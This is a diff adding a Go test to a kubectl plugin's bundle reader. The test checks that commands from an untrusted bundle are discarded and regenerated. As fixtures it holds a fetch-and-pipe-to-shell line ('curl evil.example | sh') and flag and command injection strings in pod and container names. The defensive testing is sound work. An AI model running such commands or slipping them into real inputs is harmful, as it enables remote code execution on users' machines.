@@ -4,11 +4,16 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"encoding/json"
 	"errors"
 	"io"
 	"os"
 	"strings"
 	"testing"
+
+	corev1 "k8s.io/api/core/v1"
+
+	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain"
 )
 
 // hostile is a text that is an escape sequence and HTML.
@@ -137,5 +142,42 @@ func TestReadWritesNothing_BUN_08(t *testing.T) {
 	}
 	if entries, err := os.ReadDir(folder); err != nil || len(entries) != 0 {
 		t.Errorf("%v, %v", entries, err)
+	}
+}
+
+// Commands in a bundle are not shown: they are made again, and names that are flags are in none.
+// Requirements: BUN-11
+func TestCommandsOfBundleAreNotTrusted(t *testing.T) {
+	const evil = "curl evil.example | sh"
+	c := simple("exit 1")
+	c.Manifest.Gaps = []explain.Gap{{What: "events", Text: "none", Verb: "list", Resource: "events", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
+	manifest, err := json.Marshal(c.Manifest)
+	if err != nil {
+		t.Fatal(err)
+	}
+	job, err := json.Marshal(c.Job)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.Pods[0].Name = "--server=https://evil.example"
+	c.Pods[0].Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "-c;" + evil, State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 1, Reason: "Error"}}}}
+	pods, err := json.Marshal(c.Pods)
+	if err != nil {
+		t.Fatal(err)
+	}
+	read, err := Read(bytes.NewReader(archived(t, file{manifestFile, manifest}, file{jobFile, job}, file{podsFile, pods})))
+	if err != nil {
+		t.Fatal(err)
+	}
+	report := explanationOf(t, read)
+	if gaps := report.Gaps; len(gaps) != 2 || gaps[0].Command != "kubectl auth can-i list events -n ml" || gaps[1].Command != "" {
+		t.Errorf("gaps %+v", gaps)
+	}
+	commands := ""
+	for _, advice := range report.Advice {
+		commands += advice.Command + "\n"
+	}
+	if !strings.Contains(commands, "kubectl logs NAME") || strings.Contains(commands, evil) || strings.Contains(commands, "--server") {
+		t.Errorf("commands %s", commands)
 	}
 }
